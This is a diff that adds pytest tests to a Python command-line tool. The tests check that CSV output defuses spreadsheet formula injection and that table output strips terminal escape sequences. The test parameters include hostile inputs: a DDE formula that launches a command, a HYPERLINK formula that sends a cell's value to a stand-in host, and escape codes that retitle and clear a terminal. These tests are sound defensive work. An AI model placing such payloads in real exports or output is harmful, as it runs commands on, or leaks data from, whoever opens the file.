@@ -22,6 +22,7 @@ import pytest
 from edgeloop.app import answers
 from edgeloop.app.cli import run
 from edgeloop.app.frozen import find_freeze
+from edgeloop.app.output import print_rows
 from edgeloop.app.sql import Answer, ask_store
 from edgeloop.app.sql_freeze import ask_freeze
 from edgeloop.errors import UsageError
@@ -287,8 +288,33 @@ def test_cells_of_csv(capsys: pytest.CaptureFixture[str]) -> None:
     )
 
 
+@pytest.mark.parametrize("between", [";", "; ", "\t", "\r\n", "\n", ';"', ';" "'])
+@pytest.mark.parametrize("formula", ["=1+cmd|' /C calc'!A0", '=HYPERLINK("http://e/"&A1)', "+1", "-1", "@x", "＝1"])
+def test_no_cell_is_a_formula_where_another_separator_is_used(
+    between: str, formula: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    answers.print_csv(["a", "b"], [("nps", f"great {between}{formula}"), ("x", f"{between}{formula}")])
+    out = capsys.readouterr().out
+    for separator in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator):
+            assert not any(line.lstrip(' "').startswith(tuple("=+-@＝")) for cell in row for line in cell.splitlines())
+
+
 def test_two_columns_of_one_name_are_both_in_the_json(shell: Shell) -> None:
     assert shell.rows("sql", "SELECT 1 AS x, 2 AS x, 3 AS x_2") == [{"x": 1, "x_2": 2, "x_2_2": 3}]
+
+
+@pytest.mark.parametrize("terminal", [True, False])
+def test_no_table_steers_a_terminal(terminal: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    shown = io.StringIO()
+    monkeypatch.setattr(shown, "isatty", lambda: terminal, raising=False)
+    monkeypatch.setattr(sys, "stdout", shown)
+    monkeypatch.setenv("TERM", "dumb")  # else the head of the table is bold
+    evil = "a\x1b]0;owned\x07\x1b[2J\x9b2Jb\rc\td\ne"
+    print_rows((evil, "n"), [(evil, 1)], as_json=False)
+    assert "owned" in shown.getvalue()
+    assert not set(shown.getvalue()) & {"\x1b", "\x07", "\x9b", "\r"}
+    assert shown.getvalue().count("\n") == 2
 
 
 def on_a_terminal(home: Path, *arguments: str, columns: int = 100) -> str:
